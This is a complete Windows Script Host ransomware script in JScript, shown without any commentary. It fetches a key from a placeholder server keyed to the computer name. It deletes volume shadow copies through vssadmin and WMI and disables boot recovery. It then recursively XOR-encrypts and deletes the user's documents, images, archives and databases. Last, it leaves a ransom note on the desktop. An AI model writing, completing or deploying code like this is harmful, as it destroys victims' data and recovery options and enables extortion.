var sh = new ActiveXObject("WScript.Shell");
var fso = new ActiveXObject("Scripting.FileSystemObject");
var id = sh.ExpandEnvironmentStrings("%COMPUTERNAME%");
var k = new ActiveXObject("MSXML2.XMLHTTP");
k.open("GET", "http://keyserver.cryptolock.invalid/k/" + id, false);
k.send();
if (k.status != 200) WScript.Quit(1);
var key = k.responseText;
sh.Run("vssadmin.exe Delete Shadows /All /Quiet", 0, true);
var svc = GetObject("winmgmts:\\\\.\\root\\cimv2");
var e = new Enumerator(svc.ExecQuery("SELECT * FROM Win32_ShadowCopy"));
for (; !e.atEnd(); e.moveNext()) { e.item().Delete_(); }
sh.Run("bcdedit /set {default} recoveryenabled no", 0, true);
var exts = /\.(docx?|xlsx?|pptx?|pdf|jpe?g|png|txt|csv|zip|sql|mdb)$/i;
function xorStr(s) { var o = ""; for (var i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ key.charCodeAt(i % key.length)); return o; }
function walk(folder) {
    var files = new Enumerator(folder.Files);
    for (; !files.atEnd(); files.moveNext()) {
        var f = files.item();
        if (!exts.test(f.Name)) continue;
        try {
            var t = f.OpenAsTextStream(1, -2); var data = t.ReadAll(); t.Close();
            var w = fso.CreateTextFile(f.Path + ".crypt", true, true); w.Write(xorStr(data)); w.Close();
            f.Delete(true);
        } catch (x) {}
    }
    var subs = new Enumerator(folder.SubFolders);
    for (; !subs.atEnd(); subs.moveNext()) { try { walk(subs.item()); } catch (x) {} }
}
walk(fso.GetFolder(sh.ExpandEnvironmentStrings("%USERPROFILE%")));
var note = fso.CreateTextFile(sh.SpecialFolders("Desktop") + "\\HOW_TO_DECRYPT.txt", true);
note.WriteLine("All your files have been encrypted. ID: " + id);
note.WriteLine("Write to decrypt@cryptolock-help.invalid");
note.Close();
